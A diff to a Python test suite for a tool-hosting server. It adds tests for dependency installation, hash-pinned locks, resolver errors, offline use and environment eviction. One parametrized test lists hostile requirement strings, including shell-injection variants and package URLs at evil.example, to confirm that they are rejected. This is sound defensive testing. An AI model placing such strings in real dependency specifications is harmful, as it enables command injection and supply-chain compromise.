@@ -3,13 +3,16 @@
 import contextlib
 import fcntl
 import json
+import os
 import shutil
+import sqlite3
 import threading
+import time
 
 import anyio
 import pytest
 
-from harness import connect, eventually, free_name
+from harness import connect, eventually, free_name, running
 
 VERSION = "import {0}\n\ndef main() -> str:\n    return {0}.__version__\n"
 
@@ -60,15 +63,165 @@ def test_a_tool_without_packages_sees_none(server):
     assert result.is_error and "ModuleNotFoundError" in result.text
 
 
-def test_many_calls_at_once_wait_for_one_environment(server):
-    tool, results = free_name("waiting"), []
-    server.create(tool, VERSION.format("iniconfig").replace("__version__", "__name__"), dependencies=["iniconfig==2.0.0"])
-    threads = [threading.Thread(target=lambda: results.append(server.call(tool).text)) for _ in range(12)]
+def test_httpx_works(server):
+    tool = free_name("fetch")
+    code = """
+import httpx
+
+async def main(name: str) -> dict:
+    answer = lambda request: httpx.Response(200, json={"hello": request.url.params["name"]})
+    async with httpx.AsyncClient(transport=httpx.MockTransport(answer)) as client:
+        answered = await client.get("https://example.org/hello", params={"name": name})
+        refused = None
+        try:
+            async with httpx.AsyncClient(trust_env=False, timeout=5) as real:
+                await real.get("https://example.org/")
+        except httpx.ConnectError as error:
+            refused = type(error).__name__
+        return answered.json() | {"network": refused}
+"""
+    reply = server.create(tool, code, dependencies=["httpx>=0.27,<1"])
+    assert "Dependencies: httpx>=0.27,<1" in reply.text
+    # The packages come from the network, and the tool still has none.
+    assert server.call(tool, {"name": "Ada"}).structured == {"hello": "Ada", "network": "ConnectError"}
+
+
+def test_numpy_works(server):
+    tool = free_name("solve")
+    code = """
+import numpy as np
+
+def main(matrix: list[list[float]], right: list[float]) -> list[float]:
+    return np.linalg.solve(np.array(matrix), np.array(right)).round(6).tolist()
+"""
+    server.create(tool, code, dependencies=["numpy"])
+    for _ in range(2):
+        assert json.loads(server.call(tool, {"matrix": [[2, 1], [1, 3]], "right": [3, 5]}).text) == [0.8, 1.4]
+
+
+def test_twenty_calls_at_once_wait_for_one_build(server):
+    tool, results, seen, done = free_name("waiting"), [], set(), threading.Event()
+    code = VERSION.format("iniconfig").replace("__version__", "__name__")
+    builds, before = server.data_dir / "environments" / "work" / "builds", environments(server)
+
+    def watch():
+        while not done.is_set():
+            # The first build makes it.
+            with contextlib.suppress(FileNotFoundError):
+                seen.update(path.name for path in builds.iterdir())
+
+    watching = threading.Thread(target=watch)
+    watching.start()
+    server.create(tool, code, dependencies=["iniconfig==2.0.0"])
+    threads = [threading.Thread(target=lambda: results.append(server.call(tool).text)) for _ in range(20)]
     for thread in threads:
         thread.start()
     for thread in threads:
         thread.join(timeout=120)
-    assert results == ["iniconfig"] * 12
+    done.set()
+    watching.join()
+    assert results == ["iniconfig"] * 20
+    assert len(environments(server) - before) == 1
+    assert len(seen) == 1, seen
+
+
+def test_the_lock_pins_every_package_with_hashes(server):
+    tool = free_name("locked")
+    server.create(tool, "import httpx\n\ndef main():\n    pass\n", dependencies=["httpx==0.27.0"])
+    with contextlib.closing(sqlite3.connect(f"file:{server.data_dir}/omniforge.db?mode=ro", uri=True)) as database:
+        query = "SELECT v.definition FROM tools t JOIN tool_versions v ON v.tool = t.id WHERE t.name = ?"
+        ((definition,),) = database.execute(query, (tool,)).fetchall()
+    pins = json.loads(definition)["lock"]["lock"].replace("\\\n", "").splitlines()
+    assert {pin.split("==")[0] for pin in pins} >= {"anyio", "certifi", "h11", "httpcore", "httpx", "idna", "sniffio"}
+    for pin in pins:
+        name, *hashes = pin.split("--hash=")
+        assert "==" in name and hashes and all(len(hash_.strip()) == len("sha256:") + 64 for hash_ in hashes), pin
+
+
+@pytest.mark.parametrize(
+    ("dependencies", "words"),
+    [
+        (["omniforge-there-is-no-such-package"], "omniforge-there-is-no-such-package was not found in the package registry"),
+        (["httpx==0.27.0", "httpcore<1"], "httpx==0.27.0 depends on httpcore==1.*"),
+        (["docopt==0.6.2"], "hint: Wheels are required for `docopt`"),
+    ],
+)
+def test_the_resolver_says_why_in_its_own_words_and_nothing_is_saved(server, dependencies, words):
+    tool = free_name("unresolved")
+    reply = server.call("omniforge_create_tool", {"name": tool, "code": "def main():\n    pass\n", "dependencies": dependencies})
+    assert reply.is_error and reply.text.startswith("[install] ") and words in reply.text
+    assert reply.text.endswith("Nothing was saved.")
+    assert tool not in server.tools() and server.call("omniforge_get_tool", {"name": tool}).is_error
+
+
+@pytest.mark.parametrize(
+    "requirement",
+    [
+        "six; touch {mark}",
+        "six && touch {mark}",
+        "$(touch {mark})",
+        "`touch {mark}`",
+        "six\ntouch {mark}",
+        "six | touch {mark}",
+        "--index-url=https://evil.example/simple",
+        "-r {mark}",
+        "-e .",
+        "--config-settings=x six",
+        "six --find-links {mark}",
+        "six @ file://{mark}",
+        "six @ git+https://evil.example/six",
+        "git+ssh://evil.example/six",
+        "../six",
+        "{mark}",
+        "six==1.16.0 --hash=sha256:00",
+        "six # comment",
+        "six\0",
+    ],
+)
+@pytest.mark.parametrize("place", ["field", "block"])
+def test_a_requirement_is_no_command_option_url_or_path(server, tmp_path, requirement, place):
+    tool, mark = free_name("hostile"), tmp_path / "mark"
+    requirement = requirement.replace("{mark}", str(mark))
+    code, fields = "def main():\n    pass\n", {"dependencies": [requirement]}
+    if place == "block":
+        escaped = json.dumps(requirement).replace("\\u0000", "\\u0001")
+        code, fields = f"# /// script\n# dependencies = [{escaped}]\n# ///\n{code}", {}
+    reply = server.call("omniforge_create_tool", {"name": tool, "code": code, **fields})
+    assert reply.is_error and "requirement 0" in reply.text and "\n" not in reply.text, reply.text
+    assert tool not in server.tools() and not mark.exists()
+
+
+def test_what_was_installed_once_works_without_a_network(tmp_path):
+    tool, other = free_name("offline"), free_name("offline")
+    with running(tmp_path) as server:
+        server.create(tool, VERSION.format("six"), dependencies=["six==1.16.0"])
+        assert server.call(tool).text == "1.16.0"
+        (name,) = environments(server)
+        shutil.rmtree(server.data_dir / "environments" / name)
+    with running(tmp_path, "--offline", "true", name="offline") as server:
+        assert server.call(tool).text == "1.16.0"
+        server.create(other, VERSION.format("six"), dependencies=["six==1.16.0"])
+        assert server.call(other).text == "1.16.0"
+        unknown = {"name": free_name("offline"), "code": VERSION.format("idna"), "dependencies": ["idna"]}
+        refused = server.call("omniforge_create_tool", unknown)
+        assert refused.is_error and "network was disabled" in refused.text, refused.text
+
+
+def test_over_the_ceiling_even_needed_environments_go_and_come_back(tmp_path):
+    tool, used = free_name("large"), free_name("used")
+    with running(tmp_path) as server:
+        server.create(tool, VERSION.format("pygments"), dependencies=["pygments==2.19.2"])
+        assert server.call(tool).text == "2.19.2"
+        (large,) = environments(server)
+        server.create(used, VERSION.format("six"), dependencies=["six==1.16.0"])
+        assert server.call(used).text == "1.16.0"
+        (recent,) = environments(server) - {large}
+        long_ago = time.time() - 86400
+        os.utime(server.data_dir / "environments" / large, (long_ago, long_ago))
+    with running(tmp_path, "--environments-max-mb", "1", name="tight") as server:
+        eventually(lambda: environments(server) == {recent}, "the one that was used least recently goes", within=60)
+        assert server.call(used).text == "1.16.0"
+        assert server.call(tool).text == "2.19.2"
 
 
 @pytest.mark.anyio
